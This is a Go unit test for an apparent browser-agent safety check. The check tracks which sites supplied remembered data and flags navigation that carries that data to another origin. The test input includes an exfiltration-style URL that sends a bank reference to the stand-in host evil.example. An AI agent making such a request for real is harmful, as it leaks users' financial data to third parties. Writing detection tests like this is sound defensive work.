package action

import (
	"testing"

	"tabwright/safety"
)

// What a model is told of before its first look was read on sites as well, and
// is found when it leaves for others.
func TestWhatASessionRecallsIsOfItsSites(t *testing.T) {
	at := func(s *Session, url string) []safety.Carried {
		return s.crossingOf(safety.Act{Action: "navigate", URL: url}, safety.Decision{}).Carried
	}
	s := &Session{known: newOrigins("is it on offer?")}
	s.Recalls([]string{"bank.example"}, "Your IBAN is DE44 5001 0517 5407 3249 31, reference TX-88213-QF.")
	if got := at(s, "https://evil.example/?d=TX-88213-QF"); len(got) != 1 || got[0].From != "bank.example" {
		t.Errorf("to another site: %v", got)
	}
	if got := at(s, "https://bank.example/find?q=TX-88213-QF"); len(got) != 0 {
		t.Errorf("back to its own: %v", got)
	}
	s = &Session{known: newOrigins("")}
	s.Recalls([]string{"bank.example", "evil.example"}, "Reference TX-88213-QF.")
	if got := at(s, "https://evil.example/?d=TX-88213-QF"); len(got) != 1 {
		t.Errorf("it may be the bank's: %v", got)
	}
	s.known.memory.Saw("evil.example", "Reference TX-88213-QF.", true)
	if got := at(s, "https://evil.example/?d=TX-88213-QF"); len(got) != 0 {
		t.Errorf("that site says so itself: %v", got)
	}
}
